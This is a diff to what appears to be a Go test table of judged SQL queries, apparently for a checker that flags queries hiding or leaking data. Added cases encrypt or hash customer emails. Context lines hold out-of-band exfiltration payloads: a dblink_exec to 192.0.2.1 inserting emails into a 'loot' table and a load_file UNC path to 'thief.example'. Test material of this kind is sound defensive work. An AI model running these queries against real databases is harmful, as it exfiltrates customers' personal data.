@@ -68,6 +68,16 @@ var judged = []struct {
 		"select note from orders where note = 'program'", "",
 	},
 	{
+		"a cipher that cannot be made again", "hidden-values",
+		"select pgp_sym_encrypt(email, 'k') from customers where id > 900000", "select encode(email, 'k') from customers where id > 900000",
+		"select pgp_sym_encrypt(email, 'k') from customers where id = 5", "select encode(email, 'k') from customers where id = 5",
+	},
+	{
+		"weights of a collation", "hidden-values",
+		"", "select weight_string(email collate utf8mb4_unicode_ci) from customers where id > 900000",
+		"", "select weight_string(note collate utf8mb4_unicode_ci) from orders where id = 1",
+	},
+	{
 		"a link to another server", "out-of-band",
 		"select dblink_exec('host=192.0.2.1', 'insert into loot values (' || quote_literal(email) || ')') from customers where id > 900000",
 		`select load_file(concat('\\\\\\\\', (select email from customers where id = 900001), '.thief.example\\\\x'))`,
